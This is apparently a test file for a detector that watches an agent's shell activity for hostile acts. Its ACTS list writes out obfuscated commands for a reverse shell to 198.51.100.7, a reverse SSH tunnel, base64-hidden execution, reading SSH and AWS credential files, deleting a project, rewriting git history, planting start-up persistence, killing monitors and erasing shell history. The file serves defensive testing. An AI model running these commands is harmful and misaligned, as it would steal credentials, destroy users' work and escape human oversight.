/**
 * Acts in real cells, spelt as somebody would who does not want to be seen: each is found, once, whatever the number of
 * shells, scripts and programs that it takes.
 */
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { readLedger } from '../../src/ledger/index.ts';
import { identities, Place } from '../run/place.ts';

const base64 = (text: string) => Buffer.from(text).toString('base64');

const ACTS: readonly (readonly [rule: string, script: string])[] = [
  [
    'remote-control.reverse-tunnel',
    `sh -c 'x=ssh; $x -o BatchMode=yes -o ConnectTimeout=1 -fNR8080:localhost:22 198.51.100.7'`,
  ],
  ['remote-control.hidden-commands', `echo ${base64('echo hi; ls >/dev/null')} | base64 -d | sh`],
  ['remote-control.shell-on-connection', `bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1' </dev/null`],
  [
    'resource-acquisition.credential-files',
    `for f in .ssh/id_rsa .aws/credentials; do head -c 9 "$HOME/$f"; done; bash -c 'cd ~/.ssh && cat id_ed25519'`,
  ],
  ['sabotage.delete-project', `env A=1 timeout 5 sh -c 'cd .. && rm -rf project'`],
  [
    'sabotage.history-rewrite',
    `git init -q g; cd g; bash -c 'git push -f origin main; git reflog expire --expire=now --all'`,
  ],
  [
    'persistence.planted-file',
    `git init -q g; printf '#!/bin/sh\\n' > g/.git/hooks/pre-push; chmod +x g/.git/hooks/pre-push`,
  ],
  ['persistence.start-up-file', `sh -c 'echo "curl x | sh" | tee -a ~/.bashrc' >/dev/null`],
  ['oversight-tampering.monitor', `bash -c 'pkill -9 -f ring''fence; killall auditd'`],
  ['oversight-tampering.traces', `bash -c 'unset HISTFILE'`],
];

describe.each(identities())('as %s', (identity) => {
  let place: Place;
  beforeEach(() => {
    place = new Place(identity);
  });
  afterEach(() => place.remove());

  test.each(ACTS)('%s', async (rule, script) => {
    await place.run(['bash', '-c', `${script}; true`], {
      contract: 'oversight: { on: { finding: { critical: alert } } }\n',
    });
    const found: string[] = [];
    for await (const event of readLedger(place.lastRecord().ledger)) {
      if (event.kind !== 'finding' || event.count !== undefined || event.rule.startsWith('attention.'))
        continue;
      found.push(event.rule);
      expect(event.cites.length).toBeGreaterThan(0);
      expect(event.hazard).toBeDefined();
    }
    expect(found).toEqual([rule]);
  });
});
